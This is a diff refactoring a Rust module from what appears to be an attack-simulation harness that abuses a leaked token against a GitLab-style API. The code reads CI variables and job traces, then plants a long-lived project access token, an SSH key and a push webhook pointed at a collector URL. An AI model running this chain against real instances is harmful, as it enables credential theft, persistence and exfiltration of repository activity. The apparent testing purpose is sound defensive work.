@@ -6,11 +6,12 @@
 //! one; the attempt is refused), an SSH key and a webhook.
 
 use reqwest::Method;
-use serde_json::{Value, json};
+use serde_json::json;
 
 use super::AttackError;
-use super::attacker::{Attacker, Reply, text};
-use super::loot::{Credential, CredentialKind, Foothold, Loot, clone};
+use super::attacker::{Attacker, text};
+use super::hands::{make_project_token, plant_key, plant_webhook};
+use super::loot::{CredentialKind, Loot};
 
 /// The key that is planted.
 const KEY: &str =
@@ -28,12 +29,9 @@ pub(crate) async fn run(attacker: Attacker) -> Result<Loot, AttackError> {
     let (treasure, variables_read) = read_variables(&attacker, &token, &projects).await?;
     read_traces(&attacker, &token, &treasure).await?;
 
-    let mut loot = Loot {
-        credentials: vec![Credential { name: "the leaked token".to_owned(), kind: token.clone() }],
-        footholds: Vec::new(),
-        variables_read,
-        attacker,
-    };
+    let mut loot = Loot::new(attacker);
+    loot.variables_read = variables_read;
+    loot.hold("the leaked token", token.clone());
     plant(&mut loot, &token, &treasure).await?;
     Ok(loot)
 }
@@ -130,69 +128,11 @@ async fn plant(loot: &mut Loot, token: &CredentialKind, project: &str) -> Result
         .write("try to make a second personal token", (Method::POST, &path), with, second)
         .await?;
 
-    let made = make_project_token(&attacker, token, project).await?;
-    let planted = CredentialKind::AccessToken(made.field("token"));
+    let planted = make_project_token(&attacker, token, project, "ci-cache").await?;
     let path = format!("/projects/{project}/variables");
     attacker.get("use the planted token", &path, Some(&planted)).await?;
-    let name = "a planted project access token".to_owned();
-    loot.credentials.push(Credential { name, kind: planted });
+    loot.hold("a planted project access token", planted);
 
     plant_key(loot, token, "build cache", KEY, project).await?;
     plant_webhook(loot, token, project, COLLECTOR).await
-}
-
-async fn make_project_token(
-    attacker: &Attacker,
-    token: &CredentialKind,
-    project: &str,
-) -> Result<Reply, AttackError> {
-    let body: Value = json!({
-        "name": "ci-cache",
-        "scopes": ["api"],
-        "access_level": 40,
-        "expires_at": "2099-12-31",
-    });
-    let path = format!("/projects/{project}/access_tokens");
-    let title = "plant a project access token";
-    attacker.write(title, (Method::POST, &path), Some(token), body).await?.accepted()
-}
-
-/// Adds an SSH key and clones a project with it.
-pub(crate) async fn plant_key(
-    loot: &mut Loot,
-    token: &CredentialKind,
-    title: &str,
-    key: &str,
-    project: &str,
-) -> Result<(), AttackError> {
-    let attacker = loot.attacker.clone();
-    let body = json!({ "title": title, "key": key });
-    let to = (Method::POST, "/user/keys");
-    attacker.write("plant an SSH key", to, Some(token), body).await?.accepted()?;
-    clone(&attacker, "clone with the planted key", key, project).await?;
-    let kind = CredentialKind::SshKey { key: key.to_owned(), project: project.to_owned() };
-    loot.credentials.push(Credential { name: "a planted SSH key".to_owned(), kind });
-    Ok(())
-}
-
-/// Adds a webhook that tells of each push.
-pub(crate) async fn plant_webhook(
-    loot: &mut Loot,
-    token: &CredentialKind,
-    project: &str,
-    url: &str,
-) -> Result<(), AttackError> {
-    let body = json!({ "url": url, "push_events": true, "enable_ssl_verification": false });
-    let path = format!("/projects/{project}/hooks");
-    let made = loot
-        .attacker
-        .write("plant a webhook", (Method::POST, &path), Some(token), body)
-        .await?
-        .accepted()?;
-    loot.footholds.push(Foothold::Webhook {
-        project: project.to_owned(),
-        id: made.field("id"),
-        url: url.to_owned(),
-    });
-    Ok(())
 }
